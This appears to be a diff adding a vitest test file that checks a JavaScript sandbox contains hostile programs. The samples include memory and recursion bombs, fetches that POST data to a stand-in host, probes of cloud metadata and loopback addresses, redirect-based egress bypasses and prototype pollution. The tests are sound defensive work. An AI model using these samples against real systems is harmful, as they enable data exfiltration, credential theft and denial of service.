@@ -1,0 +1,253 @@
+/**
+ * Hostile programs in real isolates: each must end as a failed (or harmless) envelope with an
+ * error a user can act on, and the server must still answer afterwards. Nothing here sends
+ * traffic off this machine: public hosts are refused by a chain's egress_allow before any I/O,
+ * and the redirect tests use loopback mocks through a server of this file's own whose
+ * EGRESS_ALLOW names only the redirector's port.
+ */
+import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import { startRedirectServer, type RedirectServer } from "../mocks/redirect-server";
+import { startToolService, type ToolService } from "../mocks/tool-service";
+import { api } from "./client";
+import { startDevServer, type DevServer } from "./dev-server";
+import { expectServerAnswers, jsChain, runJs } from "./sandbox-client";
+
+const TICKS = /\(limits\.max_ticks\)/;
+const ALLOCATION = /^Execution stopped: more than 268435456 bytes allocated in big strings, arrays and buffers \(limits\.max_alloc_bytes\)/;
+const WALL = /^Execution stopped: the wall time limit of 1000 ms was exceeded \(limits\.wall_ms\)$/;
+
+describe("runaway programs", () => {
+  it.each([
+    ["an infinite loop", "while (true) {}", TICKS],
+    ["an infinite loop inside a callback", "[1].forEach(function spin() { for (;;) {} });", TICKS],
+    ["an infinite async loop", "for (;;) await null;", TICKS],
+    ["a recursion bomb", "function f() { return f() + 1; }\nf()", /^RangeError: Maximum call stack size exceeded$/],
+    ["a recursion bomb that catches its own overflow", "function f() { try { f(); } catch { f(); } }\nf()", TICKS],
+    ["a memory bomb of big strings", 'const a = [];\nwhile (true) a.push("x".repeat(1e6));', ALLOCATION],
+    ["a memory bomb of filled arrays", "const a = [];\nwhile (true) a.push(new Array(1e6).fill(0));", ALLOCATION],
+    ["a memory bomb that doubles an array", "let a = [1];\nwhile (true) a = [...a, ...a];", ALLOCATION],
+    ["a memory bomb of buffers", "const a = [];\nwhile (true) a.push(new Uint8Array(1e7));", ALLOCATION],
+  ])("%s ends with a clear error", async (_name, code, error) => {
+    const { run, envelope } = await runJs(code);
+    expect(run.status).toBe("succeeded");
+    expect(envelope).toMatchObject({ ok: false, result: null });
+    expect(envelope.error).toMatch(error);
+    await expectServerAnswers();
+  });
+
+  it.each([
+    ["a promise that never settles", "await new Promise(() => {});"],
+    ["a timer that keeps rescheduling itself", "setInterval(() => {}, 1);\nawait new Promise(() => {});"],
+    ["a sleep far past the limit", "await new Promise((resolve) => setTimeout(resolve, 3_600_000));"],
+  ])("%s ends at the wall time limit", async (_name, code) => {
+    const { envelope } = await runJs(code, { limits: { wall_ms: 1000 } });
+    expect(envelope).toMatchObject({ ok: false, error: expect.stringMatching(WALL) });
+    await expectServerAnswers();
+  });
+});
+
+describe("network access", () => {
+  it("cannot reach a public host the chain's egress_allow leaves out, by either fetch, before any I/O", async () => {
+    const code = `
+      const viaGlobal = await httpFetch("https://example.org/secrets");
+      const viaFetch = await fetch("https://example.org/secrets", { method: "POST", body: "data" });
+      return { viaGlobal, status: viaFetch.status, refused: viaFetch.headers.get("x-switchyard-egress"), body: await viaFetch.json() };`;
+    const { envelope } = await runJs(code, { egress_allow: ["api.example.com"] });
+    const refusal = "egress refused: example.org is not in this chain's egress allow-list (execute_config.egress_allow)";
+    expect(envelope.result).toMatchObject({ viaGlobal: { ok: false, status: 0, error: refusal }, status: 403, refused: "refused", body: { error: refusal } });
+    expect(envelope.calls).toMatchObject([
+      { name: "httpFetch", ok: false, error: refusal },
+      { name: "fetch", ok: false, error: "egress refused (HTTP 403)" },
+    ]);
+    await expectServerAnswers();
+  });
+
+  it.each([
+    ["the server itself on 127.0.0.1", () => `${api().baseUrl}/health`, "127.0.0.1 is a loopback address"],
+    ["localhost", () => "http://localhost:8787/", "localhost is a loopback name"],
+    ["IPv6 loopback", () => "http://[::1]:8787/", "[::1] is a loopback address"],
+    ["loopback spelled as a number", () => "http://2130706433/", "127.0.0.1 is a loopback address"],
+    ["the cloud metadata address", () => "http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"],
+    ["the cloud metadata name", () => "http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal is a cloud metadata name"],
+    ["a private network", () => "http://10.0.0.1/", "10.0.0.1 is a private address"],
+  ])("cannot reach %s", async (_name, url, reason) => {
+    const target = url();
+    const { envelope } = await runJs(`
+      const viaGlobal = await httpFetch(${JSON.stringify(target)});
+      const viaFetch = await fetch(${JSON.stringify(target)});
+      return { viaGlobal: viaGlobal.error, status: viaFetch.status, body: await viaFetch.text() };`);
+    expect(envelope.ok).toBe(true);
+    const result = envelope.result as { viaGlobal: string; status: number; body: string };
+    expect(result.viaGlobal).toContain(`egress refused: ${reason}`);
+    expect(result.status).toBe(403);
+    expect(result.body).toContain(reason);
+    await expectServerAnswers();
+  });
+
+  describe("through redirects", () => {
+    let redirector: RedirectServer;
+    let forbidden: ToolService;
+    let server: DevServer;
+
+    beforeAll(async () => {
+      redirector = await startRedirectServer();
+      forbidden = await startToolService({ records: 3 });
+      server = await startDevServer({
+        vars: { API_KEYS: inject("apiKey"), LLM_BASE_URL: inject("llmUrl"), LLM_API_KEY: "k", LLM_MODEL: "mock-model", EGRESS_ALLOW: `127.0.0.1:${redirector.port}` },
+      });
+    });
+
+    afterAll(async () => {
+      await server?.stop();
+      await forbidden?.close();
+      await redirector?.close();
+    });
+
+    const bounce = (target: string, status = 302) => `${redirector.url}/to?url=${encodeURIComponent(target)}&status=${status}`;
+
+    it.each([
+      ["a loopback port EGRESS_ALLOW does not name", () => `${forbidden.url}/records/1`, "127.0.0.1 is a loopback address"],
+      ["the cloud metadata address", () => "http://169.254.169.254/latest/meta-data/iam/", "169.254.169.254 is a link-local address"],
+    ])("re-checks every hop: a redirect to %s is refused", async (_name, target, reason) => {
+      const from = bounce(target(), 307);
+      const { envelope } = await runJs(
+        `const viaGlobal = await httpFetch(${JSON.stringify(from)});\nconst viaFetch = await fetch(${JSON.stringify(from)});\nreturn { viaGlobal, status: viaFetch.status, body: await viaFetch.json() };`,
+        {},
+        api(server.url),
+      );
+      const refusal = `egress refused (redirect 1 from ${from}): ${reason}`;
+      expect(envelope.result).toMatchObject({ viaGlobal: { ok: false, url: target(), error: expect.stringContaining(refusal) }, status: 403, body: { error: expect.stringContaining(refusal) } });
+      expect(forbidden.calls).toEqual([]);
+      await expectServerAnswers(api(server.url));
+    });
+
+    it("refuses a redirect to a public host the chain's egress_allow leaves out", async () => {
+      const from = bounce("https://example.org/exfiltrate");
+      const { envelope } = await runJs(`return httpFetch(${JSON.stringify(from)})`, { egress_allow: [`127.0.0.1:${redirector.port}`] }, api(server.url));
+      expect(envelope.result).toMatchObject({
+        ok: false,
+        error: `egress refused (redirect 1 from ${from}): example.org is not in this chain's egress allow-list (execute_config.egress_allow)`,
+      });
+    });
+  });
+});
+
+describe("isolation between runs", () => {
+  it("a run sees nothing of another run's globals, logs, results or vars, even while both are live", async () => {
+    const secret = `secret-${Math.random().toString(36).slice(2)}`;
+    const first = api().post("/runs?wait=true", {
+      chain: jsChain(),
+      input: {
+        code: `globalThis.stash = "${secret}";\nconsole.log("${secret}");\nawait new Promise((r) => setTimeout(r, 1500));\nreturn { kept: globalThis.stash };`,
+      },
+      vars: { token: secret },
+    });
+    // Started while the first run is still holding its secret.
+    await new Promise((r) => setTimeout(r, 300));
+    const second = await runJs(`
+      const seen = [];
+      for (const name of Object.getOwnPropertyNames(globalThis)) {
+        try { seen.push(name + "=" + String(globalThis[name]).slice(0, 200)); } catch {}
+      }
+      let cached = null;
+      try { cached = await caches.default.match("https://switchyard.invalid/stash"); } catch (e) { cached = String(e); }
+      const viaApi = await httpFetch("${api().baseUrl}/runs?limit=5");
+      return { stash: globalThis.stash ?? null, seen, cached, viaApi: viaApi.error };`);
+    const firstRun = (await first).body;
+
+    expect(firstRun.output).toMatchObject({ ok: true, result: { kept: secret }, logs: [secret] });
+    expect(second.envelope.ok).toBe(true);
+    expect(JSON.stringify(second.envelope)).not.toContain(secret);
+    expect(second.envelope.result).toMatchObject({ stash: null, viaApi: expect.stringContaining("egress refused") });
+    expect(second.run.id).not.toBe(firstRun.id);
+  });
+
+  it("prototype pollution stays in its own isolate: the runtime's records, the host and later runs are unaffected", async () => {
+    const chain = {
+      id: "sandbox-pollution",
+      tasks: [
+        { id: "js", handler: "run_js", transition: { branches: [{ operator: "default", when: "", goto: "after" }] } },
+        { id: "after", handler: "print", print: "{{.js.result.ok}} {{.js.logs}}" },
+      ],
+    };
+    const code = `
+      Object.prototype.polluted = "yes";
+      Array.prototype.push = function () { return -1; };
+      Array.prototype.map = function () { return []; };
+      JSON.stringify = () => "{}";
+      JSON.parse = () => ({ hijacked: true });
+      Function.prototype.call = function () { return "hijacked"; };
+      console.log("still logged");
+      await sendEvent("sandbox.polluted", { n: 1 });
+      return { ok: 1 };`;
+    const res = await api().post("/runs?wait=true", { chain, input: { code } });
+    expect(res.body.status).toBe("succeeded");
+    const steps = (await api().get(`/runs/${res.body.id}/steps`)).body.data;
+    expect(steps[0].output).toMatchObject({ ok: true, result: { ok: 1 }, logs: ["still logged"], calls: [{ name: "sendEvent", args: ["sandbox.polluted", { n: 1 }], ok: true }] });
+    expect(steps[1].eval).toBe('1 ["still logged"]');
+
+    // A toJSON on every object spoils the run's own serialisation, and nothing beyond it.
+    const hijacked = await runJs('Object.defineProperty(Object.prototype, "toJSON", { value: () => "hijacked" });\nawait sendEvent("sandbox.hijacked", {});\nreturn { ok: 1 };');
+    expect(hijacked.run.status).toBe("succeeded");
+    expect(Object.keys(hijacked.envelope).sort()).toEqual(["calls", "code", "duration_ms", "error", "logs", "ok", "result"]);
+    expect(hijacked.envelope.ok).toBe(false);
+
+    const { envelope } = await runJs('({ inherited: ({}).polluted ?? null, push: [].push(1), json: JSON.stringify({ a: 1 }), toJSON: typeof ({}).toJSON })');
+    expect(envelope.result).toEqual({ inherited: null, push: 1, json: '{"a":1}', toJSON: "undefined" });
+    await expectServerAnswers();
+  });
+
+  it("a __proto__ key in a result is stored and served as an ordinary field", async () => {
+    const { run, envelope } = await runJs(`JSON.parse('{"__proto__": {"polluted": "via result"}, "plain": 1}')`);
+    expect(envelope.ok).toBe(true);
+    const raw = await (await fetch(`${api().baseUrl}/runs/${run.id}`, { headers: { authorization: `Bearer ${api().apiKey}` } })).text();
+    expect(raw).toContain('"result":{"__proto__":{"polluted":"via result"},"plain":1}');
+    const after = await runJs("({}).polluted ?? null");
+    expect(after.envelope.result).toBeNull();
+  });
+});
+
+describe("hostile values", () => {
+  it.each([
+    ["a string", 'throw "boom"', "boom"],
+    ["a number", "throw 42", "42"],
+    ["a plain object", "throw { code: 42, reason: 'nope' }", '{"code":42,"reason":"nope"}'],
+    ["null", "throw null", "null"],
+    ["undefined", "throw undefined", "undefined"],
+    ["a symbol", 'throw Symbol("odd")', "Symbol(odd)"],
+    ["a rejected promise", "await Promise.reject(7)", "7"],
+    ["an object without a prototype", "throw Object.create(null)", "{}"],
+    ["an error whose message getter throws", 'throw { get message() { throw new Error("gotcha"); } }', "gotcha"],
+  ])("throwing %s ends with that value as the error", async (_name, code, error) => {
+    const { envelope } = await runJs(code);
+    expect(envelope).toMatchObject({ ok: false, result: null, error });
+    await expectServerAnswers();
+  });
+
+  it("huge logs are cut off at the limit, and the run is recorded", async () => {
+    const { run, envelope } = await runJs('for (let i = 0; i < 100000; i++) console.log("line " + i + " " + "-".repeat(100));\nreturn "done";');
+    expect(run.status).toBe("succeeded");
+    expect(envelope).toMatchObject({ ok: true, result: "done" });
+    expect(envelope.logs.at(-1)).toBe("[… logs truncated: more than 65536 bytes (limits.max_log_bytes)]");
+    expect(envelope.logs.length).toBeLessThan(1000);
+    await expectServerAnswers();
+  });
+
+  it("a result over the limit is refused, and one within it is kept whole on the run but shortened in the step log", async () => {
+    const over = await runJs('"x".repeat(2 * 1024 * 1024)');
+    expect(over.envelope).toMatchObject({ ok: false, result: null, error: "the result is 2097154 bytes, over limits.max_result_bytes (1048576)" });
+
+    const res = await api().post("/runs?wait=true", { chain: jsChain(), input: { code: '"y".repeat(600 * 1024)' } });
+    expect(res.body.output.result).toHaveLength(600 * 1024);
+    const step = (await api().get(`/runs/${res.body.id}/steps`)).body.data[0];
+    expect(step.output).toMatchObject({ truncated: true, original_bytes: expect.any(Number), preview: expect.stringMatching(/^\{"ok":true,"result":"yyy/) });
+    expect(step.output.original_bytes).toBeGreaterThan(600 * 1024);
+    await expectServerAnswers();
+  });
+
+  it("a huge error message is shortened", async () => {
+    const { envelope } = await runJs('throw new Error("z".repeat(5_000_000))');
+    expect(envelope.error).toBe(`Error: ${"z".repeat(4089)}… (5000007 characters)`);
+    await expectServerAnswers();
+  });
+});
